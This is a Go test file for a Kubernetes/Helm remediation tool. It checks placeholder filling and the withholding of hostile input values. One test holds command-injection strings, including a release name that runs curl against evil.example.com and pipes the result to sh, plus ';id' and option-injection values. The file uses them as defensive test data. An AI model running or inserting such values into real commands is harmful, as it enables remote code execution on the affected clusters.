package check

import (
	"strings"
	"testing"

	"github.com/unstick-dev/unstick/internal/finding"
	"github.com/unstick-dev/unstick/internal/shellcmd"
)

// The printed commands are the ones to run: the object and the check's values fill the
// placeholders, a scoped value only where it belongs, unknown placeholders stay.
func TestPersonaliseFillsPlaceholders(t *testing.T) {
	f := finding.Finding{
		Object: finding.ObjectRef{APIVersion: "v1", Kind: "Secret", Namespace: "cattle-fleet-system", Name: "sh.helm.release.v1.fleet-agent-c-m-1.v5"},
		Vars:   map[string]string{"release": "fleet-agent-c-m-1", "last-deployed-revision": "4", "n+1@redeployAgentGeneration": "3", "fleet-namespace": "fleet-default", "cluster": "c-m-1"},
		Remediation: []finding.Step{{Rung: "repair", Commands: []string{
			"helm -n <namespace> rollback <release> <last-deployed-revision>",
			`kubectl -n <fleet-namespace> patch clusters.fleet.cattle.io <cluster> --type merge -p '{"spec":{"redeployAgentGeneration":<n+1>}}'`,
			`kubectl -n <fleet-namespace> patch bundles.fleet.cattle.io <bundle> --type merge -p '{"spec":{"forceSyncGeneration":<n+1>}}'`,
		}}},
	}
	catalogue := f.Remediation[0].Commands // shared with the catalogue entry in real use
	personalise(nil, &f)
	want := []string{
		"helm -n cattle-fleet-system rollback fleet-agent-c-m-1 4",
		`kubectl -n fleet-default patch clusters.fleet.cattle.io c-m-1 --type merge -p '{"spec":{"redeployAgentGeneration":3}}'`,
		`kubectl -n fleet-default patch bundles.fleet.cattle.io <bundle> --type merge -p '{"spec":{"forceSyncGeneration":<n+1>}}'`,
	}
	for i, w := range want {
		if got := f.Remediation[0].Commands[i]; got != w {
			t.Errorf("command %d:\n got %s\nwant %s", i, got, w)
		}
	}
	if catalogue[0] != "helm -n <namespace> rollback <release> <last-deployed-revision>" {
		t.Error("personalise changed the catalogue's own ladder")
	}
}

// fill replaces known placeholders only, once, and leaves any other angle brackets alone
// (shell redirections and here-strings appear in real commands).
func TestFillPlaceholders(t *testing.T) {
	vars := map[string]string{"ns": "cattle-fleet-system", "x": "1"}
	for in, want := range map[string]string{
		"":                                 "",
		"no placeholders":                  "no placeholders",
		"kubectl -n <ns> logs <pod>":       "kubectl -n cattle-fleet-system logs <pod>",
		"a<b<ns>>c":                        "a<bcattle-fleet-system>c",
		"cat <<EOF <unknown> <ns":          "cat <<EOF <unknown> <ns",
		"<x><x>< x>":                       "11< x>",
		"echo <ns> > /tmp/out < /dev/null": "echo cattle-fleet-system > /tmp/out < /dev/null",
	} {
		if got, err := fill(in, func(k string) string { return vars[k] }); err != nil || got != want {
			t.Errorf("fill(%q) = %q (%v), want %q", in, got, err, want)
		}
	}
}

// A value read from the input is checked against what its placeholder stands for: a Helm
// record naming its release `app$(curl …|sh)`, or a namespace with a newline and a
// semicolon, withholds the command, and the line that stands in for it says why and runs
// nothing when pasted.
func TestPersonaliseWithholdsHostileValues(t *testing.T) {
	for name, vars := range map[string]map[string]string{
		"release":   {"release": "app$(curl${IFS}-s${IFS}evil.example.com|sh)", "last-deployed-revision": "1"},
		"namespace": {"release": "app", "last-deployed-revision": "1", "namespace": "tenant-a\n;id"},
		"revision":  {"release": "app", "last-deployed-revision": "1;id"},
		"option":    {"release": "--post-renderer=/tmp/x", "last-deployed-revision": "1"},
		"lookalike": {"release": "аpp", "last-deployed-revision": "1"}, // Cyrillic а
	} {
		f := finding.Finding{
			Object:      finding.ObjectRef{APIVersion: "v1", Kind: "Secret", Namespace: "tenant-a", Name: "sh.helm.release.v1.app.v2"},
			Vars:        vars,
			Remediation: []finding.Step{{Rung: "repair", Commands: []string{"helm -n <namespace> rollback <release> <last-deployed-revision>", "helm -n <namespace> history app"}}},
		}
		personalise(nil, &f)
		got := f.Remediation[0].Commands
		if !shellcmd.IsWithheld(got[0]) || !strings.Contains(got[0], "is not a valid") || strings.ContainsAny(got[0], "\n\r") {
			t.Errorf("%s: command printed: %q", name, got[0])
		}
		if name != "namespace" && got[1] != "helm -n tenant-a history app" {
			t.Errorf("%s: an unrelated command was changed: %q", name, got[1])
		}
	}
}
